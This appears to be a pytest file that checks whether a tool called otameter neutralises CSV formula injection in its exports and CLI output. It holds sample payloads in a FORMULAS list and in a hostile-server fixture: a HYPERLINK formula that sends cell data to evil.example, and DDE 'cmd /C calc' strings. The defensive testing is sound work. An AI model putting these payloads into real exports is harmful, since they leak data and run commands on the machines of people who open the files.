"""CSV injection: strings a device (or a hostile server, for the CLI) supplies cannot become
spreadsheet formulas in any CSV otameter writes; numbers the server computes stay numbers."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
from typer.testing import CliRunner

from otameter.cli import app as cli
from otameter.csv_cells import CsvWriter, safe_cell
from otameter.releases import RELEASE_ROW_FIELDS
from tests.harness import Harness, setup_app
from tests.httpserver import QuietHandler, serving

APP = "com.example.app"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-",
]


def test_safe_cell() -> None:
    for text in [*FORMULAS, "\t=1", "\r=1", "=", "+"]:
        assert safe_cell(text) == "'" + text
    for text in ["1.2.0", "builtin", "", " =1", "a=1", "'=1", "2024-05-01"]:
        assert safe_cell(text) == text
    # Server-computed numbers keep their type, negative ones included.
    for number in [-5, -0.5, 0, 12, 3.25]:
        assert safe_cell(number) == number
    assert safe_cell(None) is None


def test_csv_writer_quotes_every_string_cell_header_included() -> None:
    buffer = io.StringIO()
    writer = CsvWriter(buffer)
    writer.writerow(["version", "=cmd (% of devices)", "devices"])
    writer.writerow(["-1+1", -3, 4.5])
    assert buffer.getvalue() == "version,'=cmd (% of devices),devices\r\n'-1+1,-3,4.5\r\n"
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["version", "'=cmd (% of devices)", "devices"], ["'-1+1", "-3", "4.5"]]


def test_bundle_usage_csv_neutralises_device_versions(harness: Harness) -> None:
    h = harness
    key = setup_app(h)
    for n, version in enumerate([*FORMULAS, "1.2.0"]):
        for _ in range(n + 1):
            r = h.checkin(APP, str(uuid.uuid4()), version_name=version)
            assert r.status_code == 200, r.text
    h.rollup()
    day = h.clock.now().date().isoformat()
    query = f"?from={day}&to={day}"
    as_json = h.client.get(f"/statistics/app/{APP}/bundle_usage/{query}", headers=h.auth(key))
    assert as_json.status_code == 200
    (row,) = as_json.json()["data"]
    # The JSON keeps what devices sent: only CSV cells are neutralised.
    assert {v["version"] for v in row["versions"]} == {*FORMULAS, "1.2.0"}

    r = h.client.get(f"/statistics/app/{APP}/bundle_usage/{query}&format=csv", headers=h.auth(key))
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    versions = {line["version"]: line for line in rows}
    assert set(versions) == {"'" + f for f in FORMULAS} | {"1.2.0"}
    for entry in row["versions"]:
        name = entry["version"] if entry["version"] == "1.2.0" else "'" + entry["version"]
        line = versions[name]
        assert int(line["devices"]) == entry["devices"]
        assert float(line["share"]) == entry["share"]
        assert int(line["day_devices"]) == row["devices"]
    # No cell of the file starts a formula.
    for line in csv.reader(io.StringIO(r.text)):
        for cell in line:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()

    stats = h.client.get(
        f"/statistics/app/{APP}/{query}&format=csv&breakdown=true&compare=previous",
        headers=h.auth(key),
    )
    assert stats.status_code == 200
    (header, line) = list(csv.reader(io.StringIO(stats.text)))
    figures = dict(zip(header, line, strict=True))
    devices = sum(range(1, len(FORMULAS) + 2))
    assert figures["date"] == day and figures["previous_date"] == day.replace("15", "14")
    assert int(figures["mau"]) == int(figures["dau"]) == devices
    assert figures["storage"] == figures["previous_mau"] == "0"


# -- the CLI against a server that sends formulas --------------------------------------------


@pytest.fixture
def hostile_server() -> Iterator[str]:
    """A real HTTP server answering the statistics and usage calls with formula strings."""

    class Handler(QuietHandler):
        def do_GET(self) -> None:
            body: Any
            if "/releases/" in self.path:
                # A release's version is free text to the API: it reaches the CSV.
                row = dict.fromkeys(RELEASE_ROW_FIELDS[1:], 0)
                body = {"data": [{**row, "version": "=cmd|' /C calc'!A0", "launch_ms_p50": None}]}
            elif self.path.startswith("/statistics/"):
                body = {
                    "data": [
                        {"date": "=cmd|' /C calc'!A0", "mau": -1, "storage": 0, "bandwidth": 5}
                    ]
                }
            else:
                body = {
                    "org_id": "o",
                    "mau": {"used": -2, "limit": "@SUM(1)", "percent": 1.5},
                    "storage": {"used": 1, "limit": 2, "percent": 50.0},
                    "bandwidth": {"used": 1, "limit": 2, "percent": 50.0},
                }
            self.send_json(body)

    with serving(Handler) as port:
        yield f"http://127.0.0.1:{port}"


def test_cli_csv_neutralises_strings_from_the_server(hostile_server: str) -> None:
    env = {"OTAMETER_SERVER": hostile_server, "OTAMETER_APIKEY": "otm_x", "COLUMNS": "200"}
    runner = CliRunner()
    period = ["--from", "2024-05-01", "--to", "2024-05-01", "--csv"]
    releases = runner.invoke(cli, ["stats", "releases", APP, *period], env=env)
    assert releases.exit_code == 0, releases.output
    assert releases.stdout.splitlines()[1] == "'=cmd|' /C calc'!A0,0,0,0,0,0,0,0,0,,0"
    # A formula where the API's model has a day or a number is no answer of the API: the
    # client refuses it, and nothing of it is printed.
    stats = runner.invoke(cli, ["stats", "app", APP, *period], env=env)
    assert stats.exit_code == 1 and stats.stdout == "", stats.output
    assert "unexpected answer" in stats.stderr
    usage = runner.invoke(cli, ["usage", "--org", "o", "--csv"], env=env)
    assert usage.exit_code == 1 and usage.stdout == "", usage.output
    assert "unexpected answer" in usage.stderr
